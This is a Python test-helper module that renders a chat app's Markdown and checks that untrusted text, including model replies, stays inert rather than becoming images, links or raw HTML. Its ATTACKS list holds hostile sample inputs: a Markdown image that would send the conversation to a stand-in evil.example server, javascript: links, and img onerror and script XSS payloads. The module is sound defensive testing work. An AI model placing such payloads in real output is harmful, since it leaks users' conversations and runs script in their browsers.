"""What a Markdown message becomes when rendered, for asserting that untrusted text inside it stayed text.

The chat renders with marked (GFM) in the browser; here markdown-it-py with tables and strikethrough stands in
for it, made as permissive as marked: every link destination is accepted (markdown-it refuses `javascript:`
on its own, marked leaves that to a sanitiser). GFM's bare-URL autolinks, which markdown-it-py lacks without
linkify, are found the way marked finds them: `https://`, `www.` or an `@` address in one run of source text,
not broken by an escape.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from markdown_it import MarkdownIt

# Tags that Markdown formatting makes, and the few the app writes itself (checked by class and target below).
FORMATTING_TAGS = {
    "p", "br", "strong", "em", "del", "code", "pre", "ul", "ol", "li", "blockquote", "hr",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}
OWN_TAGS = {"span", "sup", "a"}
# A citation names the quoted sentences behind it in `rel`; a compact table cell is focusable, a button.
OWN_ATTRIBUTES = {"class", "href", "title", "rel", "tabindex", "role"}
GFM_AUTOLINK = re.compile(r"(?:https?|ftp)://|www\.|[\w.+-]@[\w-]", re.IGNORECASE)

# What a hostile title, abstract, model reply or question may hold: each would load an image from the writer's
# server (leaking the conversation), make a link, or inject HTML if it reached the page as Markdown unescaped.
ATTACKS = [
    "![x](http://evil.example/leak?q=the-conversation)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    "see https://evil.example/ now",
    "www.evil.example",
    "write to leak@evil.example",
    "[1](javascript:alert(1))",  # a citation marker's look, then a link target
    "[1]\n\n[1]: http://evil.example/",  # a definition that turns every bare [1] into a link
    "\\<img src=x onerror=alert(1)> \\[a](javascript:alert(1))",  # the data's own backslashes
    "`code` <b>bold</b> &lt;i&gt;",
    "    ![indented](http://evil.example/)",
    "# Heading\n> quote\n- item\n| a | b |\n|---|---|",
]


def _markdown(*, join_text: bool = True) -> MarkdownIt:
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # as marked: `javascript:` links are links too
    if not join_text:
        md.disable("text_join")  # keeps escaped characters as their own tokens, as marked's autolinker sees them
    return md


def to_html(markdown: str) -> str:
    return _markdown().render(markdown)


def shown_text(markdown: str) -> str:
    """The words a reader sees, whitespace collapsed."""
    parser = _Elements()
    parser.feed(to_html(markdown))
    return " ".join("".join(parser.text).split())


def live_markup(markdown: str) -> list[str]:
    """Everything in the rendered message that is more than text and formatting: images, raw HTML, links other
    than the app's own citation links, and bare URLs or addresses that GFM would link. Empty when inert."""
    parser = _Elements()
    parser.feed(to_html(markdown))
    return parser.live + _autolinks(markdown)


def _autolinks(markdown: str) -> list[str]:
    found = []
    for block in _markdown(join_text=False).parse(markdown):
        for token in block.children or []:
            if token.type == "text" and GFM_AUTOLINK.search(token.content):
                found.append(f"autolink in {token.content!r}")
    return found


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        names = set(values)
        citation = values.get("class") == "cite" and (values.get("href") or "").startswith("#src-")
        own = tag in OWN_TAGS and names <= OWN_ATTRIBUTES and (tag != "a" or citation)
        if not (own or (tag in FORMATTING_TAGS and not names - {"style"})):  # markdown-it aligns table cells
            self.live.append(self.get_starttag_text() or tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)
